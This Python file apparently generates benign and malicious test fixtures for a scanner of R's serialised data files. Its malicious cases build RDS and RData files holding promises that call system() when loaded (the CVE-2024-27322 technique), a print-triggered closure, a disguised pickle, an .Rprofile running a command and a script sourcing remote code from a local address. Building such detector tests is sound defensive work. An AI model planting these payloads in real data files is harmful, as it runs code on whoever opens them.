"""R's files: data and models in XDR, written by hand, and promises and code that run when somebody looks."""

import bz2
import gzip
import lzma
import struct

from cases import noise
from pickle_code import payload

NULL, GLOBAL, BASE = struct.pack(">I", 254), struct.pack(">I", 253), struct.pack(">I", 241)
EMPTY, UNBOUND = struct.pack(">I", 242), struct.pack(">I", 252)


def make(cases):
    family = cases.family("r")
    benign(family)
    evil(family)


def flags(kind, thing=False, attributes=False, tag=False, levels=0):
    return struct.pack(">I", kind | thing << 8 | attributes << 9 | tag << 10 | levels << 12)


def letters(text):
    raw = text.encode()
    return flags(9, levels=0x40 if text.isascii() else 8) + struct.pack(">i", len(raw)) + raw


def symbol(name):
    return flags(1) + letters(name)


def pairs(rows):
    """A list of tagged values, as attributes are."""
    return b"".join(flags(2, tag=True) + symbol(key) + value for key, value in rows.items()) + NULL


def vector(kind, body, attributes=None):
    return flags(kind, "class" in (attributes or {}), bool(attributes)) + body + (pairs(attributes) if attributes else b"")


def reals(*values, **attributes):
    return vector(14, struct.pack(f">i{len(values)}d", len(values), *values), attributes)


def integers(*values, **attributes):
    return vector(13, struct.pack(f">i{len(values)}i", len(values), *values), attributes)


def texts(*values, **attributes):
    return vector(16, struct.pack(">i", len(values)) + b"".join(letters(one) for one in values), attributes)


def items(*values, **attributes):
    return vector(19, struct.pack(">i", len(values)) + b"".join(values), attributes)


def called(name, *args):
    """A call, which is language and not run by itself."""
    return flags(6) + symbol(name) + b"".join(flags(2) + one for one in args) + NULL


def promise(expression, environment=GLOBAL):
    return flags(5, tag=True) + environment + UNBOUND + expression


def closure(body, environment=GLOBAL):
    return flags(3, tag=True) + environment + NULL + body


def environment(**values):
    return flags(4) + struct.pack(">i", 0) + EMPTY + pairs(values) + NULL + NULL


def rds(value, version=3, form="X"):
    head = struct.pack(">iii", version, 0x00040301, 0x00030500)
    if version == 3:
        head += struct.pack(">i", 5) + b"UTF-8"
    return form.encode() + b"\n" + head + value


def squeezed(value, **more):
    return gzip.compress(rds(value, **more), mtime=0)


def frame():
    names = {"names": texts("weight", "town"), "class": texts("data.frame"), "row.names": integers(-2147483648, -3)}
    return items(reals(1.0, 2.5, 3.0), texts("Bern", "Basel", "Genf"), **names)


def run(command="echo weighbridge"):
    return called("system", texts(command))


def benign(family):
    factor = integers(1, 2, 1, levels=texts("a", "b"), **{"class": texts("factor")})
    model = items(reals(0.5, -1.0, names=texts("(Intercept)", "x")), reals(0.1, -0.1), frame(), names=texts("coefficients", "residuals", "model"), **{"class": texts("lm")})
    rows = [
        ("numbers", reals(1, 2, 3), "numbers"),
        ("frame", frame(), "a data frame"),
        ("list", items(integers(1), texts("a"), NULL), "a list"),
        ("factor", factor, "a factor"),
        ("matrix", reals(1, 2, 3, 4, dim=integers(2, 2)), "a matrix"),
        ("unicode", texts("Größe", "雪"), "texts"),
        ("model", model, "a fitted model without its call"),
        ("environment", environment(a=reals(1), b=texts("x")), "an environment of plain values"),
        ("logical", vector(10, struct.pack(">i3i", 3, 1, 0, -2147483648)), "truth values"),
        ("raw", vector(24, struct.pack(">i", 8) + noise(8, 1)), "bytes"),
        ("complex", vector(15, struct.pack(">i2d", 1, 1.0, 2.0)), "complex numbers"),
    ]
    for case, value, note in rows:
        family.benign(case, "model.rds", squeezed(value), note)
    family.benign("plain", "model.rds", rds(frame()), "not compressed")
    family.benign("bz2", "model.rds", bz2.compress(rds(frame())), "bz2")
    family.benign("xz", "model.rds", lzma.compress(rds(frame())), "xz")
    family.benign("version-2", "model.rds", squeezed(frame(), version=2), "version 2")
    family.benign("workspace", "data.RData", gzip.compress(b"RDX3\n" + rds(pairs({"frame": frame(), "n": reals(3)})), mtime=0), "a workspace")
    family.benign("workspace-2", "data.rda", gzip.compress(b"RDX2\n" + rds(pairs({"n": reals(3)}), 2), mtime=0), "an older workspace")
    family.benign("ascii", "model.rds", b"A\n2\n262913\n131840\n14\n2\n1\n2.5\n", "the form in letters")
    family.benign("script", "train.R", "library(stats)\n\nfit <- lm(weight ~ height, data = women)\nprint(summary(fit))\n", "a script that fits a model")
    with_call = items(reals(0.5), called("lm", symbol("weight")), names=texts("coefficients", "call"), **{"class": texts("lm")})
    family.benign("model-call", "model.rds", squeezed(with_call), "a fitted model with the call that made it: language which nothing evaluates, and every model of R has it", complete=False)


def evil(family):
    rows = [
        ("promise", promise(run()), "CVE-2024-27322: a promise, evaluated by whoever looks"),
        ("promise-in-list", items(reals(1), promise(run())), "a promise in a list"),
        ("promise-attribute", reals(1, note=promise(run())), "a promise as an attribute"),
        ("promise-environment", environment(x=promise(run())), "a promise in an environment"),
        ("promise-row-names", items(reals(1), names=texts("a"), **{"class": texts("data.frame"), "row.names": promise(run())}), "a promise for the names of rows"),
        ("promise-nested", promise(promise(run())), "a promise of a promise"),
        ("promise-base", promise(run(), BASE), "a promise in the base environment"),
        ("promise-bytecode", promise(flags(21) + struct.pack(">i", 1) + integers(12, 1) + struct.pack(">i", 0)), "a promise of byte code"),
        ("promise-deep", deep(promise(run()), 200), "a promise two hundred lists deep"),
    ]
    for case, value, note in rows:
        family.malicious(case, "model.rds", squeezed(value), note)
    family.malicious("workspace-promise", "data.RData", gzip.compress(b"RDX3\n" + rds(pairs({"frame": frame(), "x": promise(run())})), mtime=0), "a promise in a workspace")
    family.malicious("promise-bz2", "model.rds", bz2.compress(rds(promise(run()))), "a promise, bz2")
    family.malicious("promise-xz", "model.rds", lzma.compress(rds(promise(run()))), "a promise, xz")
    family.malicious("promise-plain", "model.rds", rds(promise(run())), "a promise, not compressed")
    family.malicious("promise-native", "model.rds", b"B\n" + struct.pack("<iii", 2, 0x00040301, 0x00020300) + b"".join(struct.pack("<I", n) for n in (1029, 253, 252, 6, 1)) + struct.pack("<II", 0x40009, 6) + b"system" + struct.pack("<II", 2, 16) + struct.pack("<I", 1) + struct.pack("<II", 0x40009, 4) + b"echo" + struct.pack("<I", 254), "a promise in the machine's own byte order")
    family.malicious("promise-letters", "model.rds", b"A\n2\n262913\n131840\n1029\n253\n252\n6\n1\n262153\n6\nsystem\n2\n16\n1\n262153\n4\necho\n254\n", "a promise in the form in letters")
    family.malicious("two-members", "model.rds", squeezed(frame()) + squeezed(promise(run())), "a second gzip member")
    family.malicious("pickle-named-rds", "model.rds", payload(), "a pickle under the name of R's data")
    family.malicious("closure-print", "model.rds", squeezed(items(reals(1), **{"class": texts("x"), "print": closure(run())})), "a function which printing calls")
    family.suspicious("closure", "model.rds", squeezed(closure(called("+", symbol("x"), reals(1)))), "a function")
    family.suspicious("bytecode", "model.rds", squeezed(closure(flags(21) + struct.pack(">i", 1) + integers(12, 1) + struct.pack(">i", 0))), "a compiled function")
    family.suspicious("pointer", "model.rds", squeezed(flags(22) + NULL + NULL), "a pointer of the process that wrote it")
    family.suspicious("length", "model.rds", squeezed(flags(14) + struct.pack(">i", 0x7FFFFFFF)), "more numbers than bytes")
    family.suspicious("length-long", "model.rds", squeezed(flags(14) + struct.pack(">iII", -1, 0xFFFF, 0)), "a long vector without its numbers")
    family.suspicious("deep", "model.rds", squeezed(deep(NULL, 50000)), "fifty thousand lists in one another")
    family.suspicious("kind", "model.rds", squeezed(flags(200)), "a kind of value that does not exist")
    family.suspicious("reference", "model.rds", squeezed(struct.pack(">I", 0xFFFFFF00 | 255)), "a reference to what is not there")
    family.suspicious("cut", "model.rds", squeezed(frame())[:30], "a cut file")
    family.malicious("profile", ".Rprofile", "system('echo weighbridge')\n", "a file which R runs at every start")
    family.malicious("script", "load.R", "source('http://127.0.0.1/x.R')\n", "a script that runs what it fetches")


def deep(value, levels):
    for _ in range(levels):
        value = flags(19) + struct.pack(">i", 1) + value
    return value
